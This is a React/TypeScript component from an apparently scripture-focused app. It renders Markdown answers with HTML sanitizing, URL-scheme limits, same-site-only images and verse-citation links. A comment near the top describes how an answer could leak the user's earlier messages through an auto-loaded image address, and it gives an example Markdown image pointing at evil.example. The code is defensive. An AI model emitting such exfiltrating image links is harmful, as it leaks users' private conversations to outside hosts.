"use client";
import { useMemo, type ComponentProps } from "react";
import ReactMarkdown, { defaultUrlTransform, type Components } from "react-markdown";
import rehypeSanitize from "rehype-sanitize";
import { ReferenceLink } from "@/components/scripture/reference-link.tsx";
import { linkCitations } from "@/lib/scripture/reader/link-citations.ts";

// The only place Markdown is rendered. Link and image addresses keep only http, https, irc, ircs,
// mailto, xmpp or relative addresses (react-markdown's default rule, as the spec requires); anything
// else becomes empty. rehype-sanitize removes raw HTML the text might carry.
//
// Images load from this site only: an answer could otherwise carry the user's earlier messages out
// in an image address (![](https://evil.example/?q=…)) that the browser fetches on its own. An image
// from anywhere else is dropped, not shown as a link.
export function safeUrl(url: string, key?: string): string {
  if (key === "src") return isSameSiteImage(url) ? defaultUrlTransform(url) : "";
  return defaultUrlTransform(url);
}

/** A path on this site: "/…", but not "//host" or "/\host" (browsers read both as another host). */
export function isSameSiteImage(url: string): boolean {
  return /^\/(?![/\\])/.test(url.trim());
}

function SameSiteImage({ src, alt, node: _node, ...rest }: ComponentProps<"img"> & { node?: unknown }) {
  if (typeof src !== "string" || !src) return null;
  // eslint-disable-next-line @next/next/no-img-element -- Markdown images are plain <img> by nature
  return <img src={src} alt={alt ?? ""} {...rest} />;
}

/**
 * `citations` are the references the verifier accepted, with their text: each becomes a link to
 * the reader with a preview of the verse (components/scripture/reference-link.tsx).
 */
export function Markdown({
  children,
  className,
  citations,
}: {
  children: string;
  className?: string;
  citations?: readonly { reference: string; text: string }[];
}) {
  const components = useMemo<Components>(() => {
    if (!citations?.length) return { img: SameSiteImage };
    const texts = new Map(citations.map((c) => [c.reference, c.text]));
    return {
      img: SameSiteImage,
      a: ({ href, children: label }) =>
        href?.startsWith("/biblia/") ? (
          <ReferenceLink href={href} text={typeof label === "string" ? texts.get(label) : undefined}>
            {label}
          </ReferenceLink>
        ) : (
          <a href={href}>{label}</a>
        ),
    };
  }, [citations]);
  const text = citations?.length
    ? linkCitations(
        children,
        citations.map((c) => c.reference),
      )
    : children;
  return (
    <div className={className}>
      <ReactMarkdown rehypePlugins={[rehypeSanitize]} urlTransform={safeUrl} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
}
